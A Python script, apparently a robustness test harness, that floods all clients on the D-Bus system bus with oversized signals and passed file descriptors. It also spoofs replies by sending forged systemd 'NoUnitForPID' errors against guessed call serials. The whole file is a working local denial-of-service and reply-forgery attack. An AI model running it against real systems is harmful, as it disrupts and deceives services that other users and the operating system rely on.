"""Pours signals and forged answers, with open files, over everybody on the system bus. Usage: busflood.py UID SECONDS.

Prints a line once it has begun, and what was sent at its end.
"""

import array
import json
import os
import socket
import sys
import time

from jeepney import DBusAddress, HeaderFields, new_error, new_method_call, new_signal
from jeepney.auth import BEGIN, Authenticator
from jeepney.low_level import Parser

BUS = DBusAddress("/org/freedesktop/DBus", bus_name="org.freedesktop.DBus", interface="org.freedesktop.DBus")


class Connection:
    def __init__(self):
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.settimeout(5)
        self.socket.connect("/run/dbus/system_bus_socket")
        authenticator = Authenticator(enable_fds=True)
        for line in authenticator:
            self.socket.sendall(line)
            authenticator.feed(self.socket.recv(4096))
        self.socket.sendall(BEGIN)
        self._parser, self._serial = Parser(), 0
        self.name = self.ask("Hello")

    def send(self, message, files=0):
        self._serial += 1
        if files:
            message.header.fields[HeaderFields.unix_fds] = files
        data = memoryview(message.serialise(serial=self._serial))
        ancillary = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * files))] if files else []
        sent = self.socket.sendmsg([data], ancillary)
        self.socket.sendall(data[sent:])
        return self._serial

    def ask(self, method):
        serial = self.send(new_method_call(BUS, method))
        while True:
            while (message := self._parser.get_next_message()) is None:
                if not (part := self.socket.recv(65536)):
                    raise ConnectionResetError
                self._parser.add_data(part)
            if message.header.fields.get(HeaderFields.reply_serial) == serial:
                return message.body[0] if message.body else None


def to(name, make):
    message = make()
    message.header.fields[HeaderFields.destination] = name
    return message


def forged(serial):
    error = new_error(new_signal(DBusAddress("/", interface="a.b"), "c"), "org.freedesktop.systemd1.NoUnitForPID")
    error.header.fields[HeaderFields.reply_serial] = serial
    return error


def main(uid, seconds):
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
    ends = time.monotonic() + seconds
    print(json.dumps({}), flush=True)
    sent = {"signals": 0, "answers": 0, "connections": 0}
    signal = DBusAddress("/", interface="a.b")
    while time.monotonic() < ends:
        try:
            connection = Connection()
            sent["connections"] += 1
            while time.monotonic() < ends:
                for name in connection.ask("ListNames"):
                    if not name.startswith(":") or name == connection.name:
                        continue
                    for size, files in ((10, 16), (1_000_000, 0), (10, 0)):
                        body = (bytes(size),)
                        connection.send(to(name, lambda body=body: new_signal(signal, "c", "ay", body)), files)
                        sent["signals"] += 1
                    for serial in range(1, 40):
                        connection.send(to(name, lambda serial=serial: forged(serial)))
                        sent["answers"] += 1
        except OSError:  # the bus put it out
            continue
    print(json.dumps(sent), flush=True)


if __name__ == "__main__":
    main(int(sys.argv[1]), float(sys.argv[2]))
